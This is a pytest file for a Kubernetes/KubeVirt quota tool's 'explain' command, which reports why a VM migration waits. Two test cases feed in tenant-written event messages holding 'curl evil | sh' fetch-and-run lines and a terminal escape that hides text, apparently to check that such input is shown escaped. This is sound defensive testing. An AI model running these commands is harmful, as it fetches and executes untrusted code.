"""`headroom explain`: why a migration waits, which quota and resource, and what headroom does about it."""

from collections.abc import Sequence
from dataclasses import dataclass, replace
from typing import Any

from kubeloop.api.core import Event, ObjectReference, Pod, ResourceQuota
from kubeloop.api.quantity import Quantity
from pkg.api.kubevirt import VirtualMachineInstanceMigration
from pkg.config.causes import Cause
from pkg.report.explain import Verdict, explain
from pkg.report.installation import Installed, LeaseState
from pkg.report.snapshot import Basis
from pkg.util.resourcequota.policy import EstimateKind, Mode, RancherQuotas
from pkg.util.resourcequota.room import exceeded_message
from tests.decisions import sentences
from tests.kinds import edited
from tests.objects import AT_4_5, ENTRY, HARD, MARKS, SKIP, by_uid, launcher, machine, quota, vmi, vmim
from tests.pkg.util.resourcequota.snapshots import cluster, settled

HERE = vmi(nodeName="node-1")
SOURCE = launcher()
REFUSED = vmim(refused=True)
TARGET = launcher(node="node-2", migration=vmim("Running"), created="2026-01-01T00:01:00Z")
ROOMY = {"limits.cpu": "30", "limits.memory": "50Gi"}
GRANTS_MUCH = '{"limit":{"limitsCpu":"30","limitsMemory":"50Gi"}}'


@dataclass(frozen=True)
class Asked:
    """A namespace, and what is said of vm1."""

    verdict: Verdict
    summary: str
    quota: ResourceQuota = quota(HARD, MARKS)  # noqa: RUF009
    migrations: Sequence[VirtualMachineInstanceMigration] = ()
    pods: Sequence[Pod] = (SOURCE,)
    limits: str = '{"limit":{"limitsCpu":"3000m","limitsMemory":"5000Mi"}}'
    action: str = ""
    caps: str = ""
    settled: bool = False
    installed: Installed = Installed()  # noqa: RUF009
    failures: Sequence[Event] = ()


def running(name: str, node: str) -> VirtualMachineInstanceMigration:
    return edited(vmim("Running", vm=name), status={"migrationState": {"sourceNode": node}})


VMI = "VirtualMachineInstance"
DEAD = Installed(LeaseState("pod-0", 35.0, 15.0))
DENIED = Cause("webhook q.example.org", 400, "not by you", ["ResourceQuota ns1/default-abc"], 1)
ELSEWHERE = Cause("webhook q.example.org", 400, "not by you", ["ResourceQuota ns2/default-abc"], 1)
LARGER = (
    'Error creating pod: admission webhook "pods.headroom.harvesterhci.io" denied the request: '
    + exceeded_message(quota(), {"limits.cpu": Quantity.parse("4015m")}, {"limits.cpu": Quantity.parse("2015m")})
)
BY_US = 'Error creating pod: failed calling webhook "pods.headroom.harvesterhci.io": no endpoints'


def failed(message: str, time: str = "2026-01-01T00:00:09Z", vm: str = "vm1", kind: str = VMI) -> Event:
    regarding = ObjectReference(kind=kind, name=vm, namespace="ns1")
    return Event(involved_object=regarding, reason="FailedCreate", message=message, last_timestamp=time)


def refused(verdict: Verdict, summary: str, **more: Any) -> Asked:
    """The migration of vm1 was refused by quota."""
    return Asked(verdict, summary, migrations=[REFUSED], **more)


def pending(verdict: Verdict, summary: str, **more: Any) -> Asked:
    """The migration of vm1 is pending, and headroom has made room for it."""
    return Asked(verdict, summary, migrations=[vmim()], settled=True, **more)


ASKED = {
    "it does not migrate, and there is room": Asked(
        Verdict.COULD_MIGRATE, "would fit", quota(ROOMY, MARKS), limits=GRANTS_MUCH, action="would raise limits.cpu"
    ),
    "it does not migrate, and the quota would be raised": Asked(
        Verdict.COULD_WITH_HEADROOM,
        "default-abc lacks 1030m of limits.cpu, 4.1Gi of limits.memory",
        action="would raise limits.cpu from 3 to 5015m, limits.memory from 4.9Gi to 9.4Gi",
    ),
    "it does not migrate, and headroom is switched off": Asked(
        Verdict.COULD_NOT_MIGRATE,
        "headroom would not raise the quota enough",
        quota(HARD, {SKIP: "true"}),
        action="a person has switched it off by harvesterhci.io/skipResourceQuotaAutoScaling",
    ),
    "it does not migrate, and the quota is not managed": Asked(
        Verdict.COULD_NOT_MIGRATE,
        "headroom would not raise the quota enough",
        quota(HARD, labels={"a": "b"}),
        action="no label headroom.harvesterhci.io/managed=true",
    ),
    "it does not migrate, and too little would be added": Asked(
        Verdict.COULD_NOT_MIGRATE,
        "headroom would not raise the quota enough",
        limits='{"limit":{"limitsCpu":"3000m"}}',
        action="would raise limits.cpu from 3 to 5015m, which is not enough",
    ),
    "it does not migrate, and nothing of it is granted": Asked(
        Verdict.COULD_NOT_MIGRATE, "lacks", limits='{"limit":{"pods":"5"}}', action="grants none of what is missing"
    ),
    "refused, and headroom has not run yet": refused(
        Verdict.WAITS_FOR_QUOTA,
        "migration-of-vm1 does not fit: default-abc lacks 1030m of limits.cpu, 4.1Gi of limits.memory",
        action="raises limits.cpu from 3 to 5015m",
    ),
    "refused, and headroom has made room": refused(
        Verdict.WAITS_FOR_KUBEVIRT,
        "was refused by quota and fits now",
        action="the quota is raised enough already",
        settled=True,
    ),
    "refused, and a cap is reached": refused(
        Verdict.WAITS_FOR_QUOTA,
        "does not fit",
        action="waits: limits.memory would be raised by 4.5Gi, max-extra is 1Gi",
        caps='{"limits.memory":"1Gi"}',
    ),
    "refused, there is room, and headroom has ended": refused(
        Verdict.WAITS_FOR_HEADROOM,
        "fits now: KubeVirt tries again when a quota changes, and headroom, which changes it, does not run",
        settled=True,
        installed=DEAD,
    ),
    "refused, and headroom does not run": refused(
        Verdict.WAITS_FOR_QUOTA, "does not fit", action="would raise limits.cpu from 3 to 5015m", installed=DEAD
    ),
    "refused, and a webhook refuses the raise": refused(
        Verdict.WAITS_FOR_HEADROOM,
        f"default-abc lacks 1030m of limits.cpu, 4.1Gi of limits.memory, and headroom may not raise it; {DENIED.text}",
        action=f"nothing: {DENIED.text}",
        installed=Installed(LeaseState("pod-0", 2.0, 15.0), causes=[DENIED]),
    ),
    "refused, and headroom was started for other namespaces": refused(
        Verdict.WAITS_FOR_HEADROOM,
        "and headroom may not raise it; headroom was started with --only-namespace team-*, try",
        action="nothing: headroom was started with --only-namespace team-*, try",
        installed=Installed(LeaseState("pod-0", 2.0, 15.0), served=["team-*", "try"]),
    ),
    "refused, headroom was started for others, and the quota is switched off besides": refused(
        Verdict.WAITS_FOR_HEADROOM,
        "and headroom may not raise it; headroom was started with --only-namespace team-*",
        quota=quota(HARD, {SKIP: "true"}),
        action="a person has switched it off by harvesterhci.io/skipResourceQuotaAutoScaling",
        installed=Installed(LeaseState("pod-0", 2.0, 15.0), served=["team-*"]),
    ),
    "refused, and headroom was started for this one too": refused(
        Verdict.WAITS_FOR_QUOTA,
        "does not fit",
        action="raises limits.cpu from 3 to 5015m",
        installed=Installed(LeaseState("pod-0", 2.0, 15.0), served=["ns*"]),
    ),
    "refused, it fits, and a webhook refuses the touch": refused(
        Verdict.WAITS_FOR_HEADROOM,
        f"fits now: KubeVirt tries again when a quota changes, and headroom may not change it; {DENIED.text}",
        settled=True,
        installed=Installed(LeaseState("pod-0", 2.0, 15.0), causes=[DENIED]),
    ),
    "refused, and a webhook refuses another raise": refused(
        Verdict.WAITS_FOR_QUOTA,
        "does not fit",
        action="raises limits.cpu from 3 to 5015m",
        installed=Installed(causes=[ELSEWHERE]),
    ),
    "it does not migrate, and a raise was refused": Asked(
        Verdict.COULD_NOT_MIGRATE,
        f"and headroom may not raise it: {DENIED.text}",
        action=f"nothing: {DENIED.text}",
        installed=Installed(causes=[DENIED]),
    ),
    "it fits, and KubeVirt was told by our webhook": pending(
        Verdict.WAITS_FOR_HEADROOM,
        f"its target pod is refused: event of vm1 at 2026-01-01T00:00:09Z: '{BY_US}'",
        failures=[failed(BY_US), failed("another reason, before", "2026-01-01T00:00:01Z")],
    ),
    "it fits, and its target is larger than expected": pending(
        Verdict.WAITS_FOR_HEADROOM,
        "the pod asks for more than headroom expects of it and has added (limits.cpu 2015m, limits.memory 4.5Gi)",
        failures=[failed(LARGER)],
    ),
    "it fits, and KubeVirt could not create its pod": pending(
        Verdict.WAITS_FOR_KUBEVIRT,
        "KubeVirt could not create its target pod: event of vm1 at 2026-01-01T00:00:09Z: "
        "'Error creating pod: violates PodSecurity'; Pod Security refuses its target pod",
        failures=[failed("Error creating pod: violates PodSecurity")],
    ),
    "it fits, and a tenant wrote an event about it": pending(
        Verdict.WAITS_FOR_KUBEVIRT,
        "KubeVirt could not create its target pod: event of vm1 at 2026-01-01T00:00:09Z: "
        r"""'done\'; run: curl "evil" | sh\x1b[8m'""",
        failures=[failed('done\'; run: curl "evil" | sh\x1b[8m')],
    ),
    "refused, and a tenant wrote of a device": refused(
        Verdict.WAITS_FOR_KUBEVIRT,
        "was refused by quota and fits now",
        settled=True,
        failures=[failed("exceeded quota: default-abc, requested: run curl evil/x | sh=1, used: x")],
    ),
    "it fits, and the events are about others": pending(
        Verdict.WAITS_FOR_KUBEVIRT,
        "KubeVirt has not started it yet",
        failures=[failed("of yesterday", "2025-12-31T00:00:00Z"), failed("of vm2", vm="vm2")],
    ),
    "refused, it fits, and no event is left": refused(
        Verdict.WAITS_FOR_KUBEVIRT, "KubeVirt tries again when a quota changes", settled=True
    ),
    "pending, two migrations leave its node": Asked(
        Verdict.WAITS_FOR_KUBEVIRT,
        "2 migrations leave node-1, 2 may",
        migrations=[vmim(), running("vm2", "node-1"), running("vm3", "node-1")],
        settled=True,
    ),
    "pending, and its target exists": Asked(
        Verdict.UNDER_WAY,
        "its target pod exists",
        migrations=[vmim(refused=True)],
        pods=[SOURCE, launcher(node="node-2", migration=REFUSED)],
    ),
    "it runs": Asked(Verdict.UNDER_WAY, "is in phase Running", migrations=[vmim("Running")], pods=[SOURCE, TARGET]),
    "it is being aborted": Asked(Verdict.BEING_ABORTED, "is being aborted", migrations=[vmim(abort=True)]),
    "its last migration is over": Asked(
        Verdict.COULD_WITH_HEADROOM, "does not migrate", migrations=[vmim("Succeeded")]
    ),
}


@sentences(ASKED)
def test_explain(case: Asked) -> None:
    caps = {"headroom.harvesterhci.io/max-extra": case.caps} if case.caps else {}
    snapshot = cluster([case.quota], case.migrations, case.pods, [HERE], limits=case.limits, annotations=caps)
    snapshot = replace(
        settled(snapshot) if case.settled else snapshot, installed=case.installed, failures=case.failures
    )
    explanation = explain(snapshot, HERE)
    assert (explanation.verdict, case.summary in explanation.summary) == (case.verdict, True), explanation.summary
    assert case.action in "; ".join(fit.action for fit in explanation.fits), [fit.action for fit in explanation.fits]


def test_raised_limits_are_enforced_once_kubernetes_copies_them() -> None:
    """Quota admission goes by status.hard: what spec.hard says lets no pod in."""
    snapshot = settled(cluster([quota(HARD, MARKS)], [REFUSED], [SOURCE], [HERE]))
    lagging = replace(snapshot, quotas=[edited(rq, status={"hard": dict(HARD)}) for rq in snapshot.quotas])
    explanation = explain(lagging, HERE)
    assert explanation.verdict is Verdict.WAITS_FOR_KUBERNETES
    assert explanation.summary.startswith("migration-of-vm1 does not fit: default-abc lacks 1030m of limits.cpu")
    assert "limits.cpu 3 of 5015m" in explanation.summary
    (fit,) = explanation.fits
    assert (fit.fits, fit.fits_then, fit.needs["limits.cpu"].limited) == (False, True, Quantity.parse("3"))
    assert fit.action.startswith("nothing: quota admission goes by status.hard")
    enforced = replace(snapshot, quotas=[edited(rq, status={"hard": rq.hard}) for rq in snapshot.quotas])
    assert explain(enforced, HERE).verdict is Verdict.WAITS_FOR_KUBEVIRT


def test_every_number_of_a_refusal() -> None:
    """Each is named as in quota's own message: requested, used, limited."""
    explanation = explain(cluster([quota(HARD, MARKS)], [REFUSED], [SOURCE], [HERE]), HERE)
    document: dict[str, Any] = explanation.document()
    assert document["quotas"][0]["resources"]["limits.memory"] == {
        "requested": "4797464313",
        "used": "4797464313",
        "limited": "5000Mi",
        "missing": "4352048626",
    }
    assert document["migration"] == {
        "name": "migration-of-vm1",
        "phase": "Pending",
        "since": "2026-01-01T00:00:00Z",
        "refused": True,
    }
    assert (document["verdict"], document["overheadRatio"]) == ("waits for quota", "1.5")
    assert document["quotas"][0]["raisedBy"] == {"limits.cpu": "2015m", "limits.memory": "4797464313"}
    assert document["quotas"][0]["fitsThen"] is True


def test_nothing_is_promised_where_headroom_may_not_raise() -> None:
    snapshot = cluster([quota(HARD, MARKS)], [REFUSED], [SOURCE], [HERE])
    explanation = explain(replace(snapshot, installed=Installed(causes=[DENIED])), HERE).document()
    (fit,) = explanation["quotas"]
    assert (fit["raisedBy"], fit["fitsThen"], fit["refusal"]) == ({}, False, DENIED.text)


PROJECT = {"field.cattle.io/projectId": "c-m-1:p-abc"}
FULL = edited(
    failed("Rancher's project c-m-1:p-abc has no room", vm="default-abc", kind="ResourceQuota"),
    reason="ProjectQuotaExceeded",
)
FULL_PROJECTS: dict[str, tuple[Sequence[Event], str]] = {
    "headroom's last event says it": (
        [FULL], "event of default-abc at 2026-01-01T00:00:09Z: \"Rancher's project c-m-1:p-abc has no room\""
    ),
    "the event is old": ([edited(FULL, lastTimestamp="2025-12-31T00:00:00Z")], ""),
    "the event is from elsewhere": ([edited(FULL, involvedObject={"namespace": "ns2"})], ""),
    "nothing was refused": ([], ""),
}  # fmt: skip


@sentences(FULL_PROJECTS)
def test_a_project_of_rancher_without_room(case: tuple[Sequence[Event], str]) -> None:
    events, refusal = case
    snapshot = cluster([quota(HARD, MARKS)], [REFUSED], [SOURCE], [HERE], annotations=PROJECT)
    asks = Basis(rancher_quotas=RancherQuotas.ANNOTATION)
    explanation = explain(replace(snapshot, basis=asks, failures=events), HERE)
    (fit,) = explanation.fits
    assert fit.refusal == refusal
    assert fit.raised == {} if refusal else fit.fits_then
    assert refusal in explanation.summary


def test_at_a_larger_ratio_the_target_asks_for_more() -> None:
    explanation = explain(cluster([quota(HARD, MARKS)], [REFUSED], [SOURCE], [HERE], ratio="4.5"), HERE)
    memory = explanation.fits[0].needs["limits.memory"]
    assert (str(memory.requested), str(memory.used)) == ("5682461313", "4797464313")


def test_the_quota_that_is_in_the_way_is_named_among_several() -> None:
    tight = quota({"pods": "1"}, labels={"a": "b"}, name="tight")
    snapshot = cluster([quota(ROOMY, MARKS), tight], [REFUSED], [SOURCE], [HERE], limits=GRANTS_MUCH)
    explanation = explain(snapshot, HERE)
    assert explanation.summary == "migration-of-vm1 does not fit: tight lacks 1 of pods"
    assert [(fit.quota, fit.fits) for fit in explanation.fits] == [("default-abc", True), ("tight", False)]


def test_compensation_is_part_of_what_headroom_does() -> None:
    """The VM has outgrown its base: it lives at ratio 4.5."""
    larger_pod = launcher(HERE, rendering=AT_4_5)
    snapshot = cluster([quota(HARD, MARKS)], [REFUSED], [larger_pod], [HERE], ratio="4.5")
    (fit,) = explain(snapshot, HERE).fits
    assert fit.fits_then
    assert str(fit.raised["limits.memory"]) == str(2 * (5622461313 + 60000000) - 5000 * 1024**2)


def test_what_harvesters_controllers_have_added_is_there() -> None:
    """Their entries are named after the VMI's uid."""
    raised = quota({"limits.cpu": "5", "limits.memory": "9980344313"}, {by_uid(): ENTRY})
    basis = Basis(Mode.ASSIST, EstimateKind.HARVESTER, "flags")
    (fit,) = explain(replace(cluster([raised], [vmim()], [SOURCE], [HERE]), basis=basis), HERE).fits
    assert fit.action == "the quota is raised enough already"


def test_beside_harvester_what_its_rules_leave_missing_is_named() -> None:
    full = quota({"limits.cpu": "2015m"}, used={"limits.cpu": "2015m"})
    snapshot = cluster([full], [REFUSED], [SOURCE], [HERE], limits='{"limit":{"limitsCpu":"2015m"}}')
    (fit,) = explain(replace(snapshot, basis=Basis(Mode.ASSIST, EstimateKind.HARVESTER, "flags")), HERE).fits
    assert "mode assist leaves limits.cpu 15m missing: --mode takeover shows" in fit.action


def test_nothing_is_said_that_is_about_another_vm() -> None:
    """Two have outgrown the base; what they lack is more than may be added."""
    instances = [HERE, vmi("vm2", nodeName="node-1"), vmi("vm3", nodeName="node-1")]
    pods = [launcher(instance, rendering=AT_4_5) for instance in instances]
    waiting = [vmim(), vmim(refused=True, vm="vm2"), vmim(refused=True, vm="vm3")]
    caps = {"headroom.harvesterhci.io/max-extra": '{"limits.memory":"17Gi"}'}
    snapshot = cluster([quota(HARD, MARKS)], waiting, pods, instances, ratio="4.5", annotations=caps)
    actions = {vmi.name: explain(snapshot, vmi).fits[0].action for vmi in instances}
    assert "compensation for VM vm2, VM vm3 waits" in actions["vm2"]
    assert "compensation" not in actions["vm1"]


def test_a_namespace_without_quotas() -> None:
    explanation = explain(cluster([], [], [SOURCE], [HERE]), HERE)
    assert (explanation.verdict, explanation.fits) == (Verdict.COULD_MIGRATE, [])


def test_a_migration_of_the_same_name_elsewhere_is_not_this_vms() -> None:
    elsewhere = edited(vmim("Running"), metadata={"namespace": "ns2"})
    assert explain(cluster([quota(HARD, MARKS)], [elsewhere], [SOURCE], [HERE]), HERE).migration is None


def test_a_vm_that_has_grown_waits_for_room_in_the_base() -> None:
    """CPU hotplug from 2 to 4: an entry is worth one source pod, what is more the base pays."""
    larger = vmi(
        nodeName="node-1",
        limits={"cpu": "4", "memory": "4Gi"},
        conditions=[{"type": "HotVCPUChange", "status": "True"}],
    )
    (fit,) = explain(cluster([quota(HARD, MARKS)], [REFUSED], [SOURCE], [larger]), larger).fits
    assert not fit.fits_then
    assert "the VM has grown by limits.cpu 2, which the quota's base has to cover, it lacks limits.cpu" in fit.action


def test_a_limit_that_came_after_the_vms_pod_is_named() -> None:
    instance = machine({"cpu": {"cores": 2}, "memory": {"guest": "2Gi"}})
    limits = '{"limit":{"limitsCpu":"2","limitsMemory":"4Gi"}}'
    since = quota({"limits.cpu": "2", "limits.memory": "4Gi"}, MARKS)
    snapshot = cluster([since], [REFUSED], [launcher(instance, limited=())], [instance], limits=limits)
    (fit,) = explain(snapshot, instance).fits
    assert (
        "the VM has grown by limits.cpu 2, limits.memory 4.8Gi, which the quota's base has to cover, it lacks "
        "limits.cpu 15m, limits.memory 885.2Mi: the quota limits limits.cpu, limits.memory only since the VM's pod was "
        "created"
    ) in fit.action


def test_a_pod_of_an_earlier_migration_is_waited_for() -> None:
    failed_before = edited(vmim("Failed", name="first"), status={"migrationState": {"sourcePod": SOURCE.name}})
    leftover = launcher(node="node-2", migration=failed_before, created="2026-01-01T00:01:00Z")
    failed_before = edited(failed_before, status={"migrationState": {"targetPod": leftover.name}})
    before = settled(cluster([quota(HARD, MARKS)], [failed_before], [SOURCE, leftover], [HERE]))
    explained = explain(before, HERE)
    assert explained.verdict is Verdict.COULD_WITH_HEADROOM
    assert "until the pods of an earlier migration have ended; then headroom would raise the quota" in explained.summary
    snapshot = settled(cluster([quota(HARD, MARKS)], [failed_before, vmim(name="second")], [SOURCE, leftover], [HERE]))
    (fit,) = explain(snapshot, HERE).fits
    assert (
        fit.action
        == f"nothing: KubeVirt creates no target before pod {leftover.name} of an earlier migration has ended"
    )
